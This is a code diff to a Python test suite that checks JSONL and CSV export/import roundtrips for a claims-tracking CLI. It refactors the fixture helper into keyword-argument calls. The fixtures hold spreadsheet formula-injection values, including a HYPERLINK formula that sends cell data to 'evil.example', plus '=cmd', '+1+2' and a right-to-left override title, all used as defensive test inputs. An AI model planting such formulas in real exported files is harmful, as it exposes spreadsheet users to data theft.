@@ -114,52 +114,31 @@ def roundtrip(source: Cli, empty: Cli, kind: str, folder: Path) -> tuple[bytes, 
 
 def _enrich(cli: Cli) -> None:
     cli.ok("retract", "2", "--reason", 'misread,\n"quoted" reason ✓')
-    cli.ok(
-        "add",
+    cli.add(
         '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-        "--by",
-        "@Evil",
-        "--stance",
-        "asserts",
-        "--source",
-        "https://Example.org/x?utm_source=feed&id=3#top",
-        "--date",
-        "2024",
-        "--quote",
-        '+1+2, "quoted"\nsecond line 😀',
-        "--via",
-        "KCNA",
-        "--via",
-        "Yonhap",
-        "--via",
-        "'Apostrophe",
-        "--tag",
-        "=cmd",
-        "--outlet",
-        "-Outlet",
-        "--title",
-        "\u202eRTL title مرحبا",
-        "--published",
-        "2024-02",
+        by="@Evil",
+        stance="asserts",
+        source="https://Example.org/x?utm_source=feed&id=3#top",
+        date="2024",
+        quote='+1+2, "quoted"\nsecond line 😀',
+        via=["KCNA", "Yonhap", "'Apostrophe"],
+        tags=["=cmd"],
+        outlet="-Outlet",
+        title="\u202eRTL title مرحبا",
+        published="2024-02",
     )
-    cli.ok(
-        "add",
+    cli.add(
         "'leading apostrophe claim",
-        "--by",
-        "Russia",
-        "--stance",
-        "denies",
-        "--source",
-        "https://example.org/y",
-        "--date",
-        "2025-01-31",
-        "--violates",
-        "UNSC Resolution 1718",
+        by="Russia",
+        stance="denies",
+        source="https://example.org/y",
+        date="2025-01-31",
+        violates=["UNSC Resolution 1718"],
     )
     cli.ok("actor", "add", "Yonhap News", "--kind", "media", "--alias", "@Yonhap")
 
 
-def test_seed_jsonl_roundtrip_identical(seeded_cli, make_db, tmp_path):  # type: ignore[no-untyped-def]
+def test_seed_jsonl_roundtrip_identical(seeded_cli, make_db, tmp_path):
     _enrich(seeded_cli)
     empty = Cli(make_db("b"))
     first, second = roundtrip(seeded_cli, empty, "jsonl", tmp_path)
@@ -168,7 +147,7 @@ def test_seed_jsonl_roundtrip_identical(seeded_cli, make_db, tmp_path):  # type:
     assert '"retraction_reason": "misread,\\n\\"quoted\\" reason ✓"' in first.decode()
 
 
-def test_seed_jsonl_roundtrip_via_stdin_stdout(seeded_cli, make_db):  # type: ignore[no-untyped-def]
+def test_seed_jsonl_roundtrip_via_stdin_stdout(seeded_cli, make_db):
     _enrich(seeded_cli)
     empty = Cli(make_db("b"))
     first = seeded_cli.ok("export", "-", "--format", "jsonl").stdout
@@ -176,7 +155,7 @@ def test_seed_jsonl_roundtrip_via_stdin_stdout(seeded_cli, make_db):  # type: ig
     assert empty.ok("export", "-", "--format", "jsonl").stdout == first
 
 
-def test_seed_csv_roundtrip_identical(seeded_cli, make_db, tmp_path):  # type: ignore[no-untyped-def]
+def test_seed_csv_roundtrip_identical(seeded_cli, make_db, tmp_path):
     _enrich(seeded_cli)
     empty = Cli(make_db("c"))
     a_file, b_file = tmp_path / "a.csv", tmp_path / "b.csv"
@@ -324,7 +303,7 @@ def apply(target: DatabaseTarget, scenario: Scenario) -> int:
 
 
 @pytest.fixture
-def b_and_c(make_db):  # type: ignore[no-untyped-def]
+def b_and_c(make_db):
     """Two more databases, made once per test and wiped for every example."""
     return make_db("b"), make_db("c")
 
@@ -335,9 +314,7 @@ def b_and_c(make_db):  # type: ignore[no-untyped-def]
     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
 )
 @given(scenario=scenarios())
-def test_generated_content_roundtrip(  # type: ignore[no-untyped-def]
-    target, b_and_c, sqlite_template, tmp_path, scenario
-):
+def test_generated_content_roundtrip(target, b_and_c, sqlite_template, tmp_path, scenario):
     b_target, c_target = b_and_c
     for each in (target, b_target, c_target):
         wipe(each, sqlite_template)
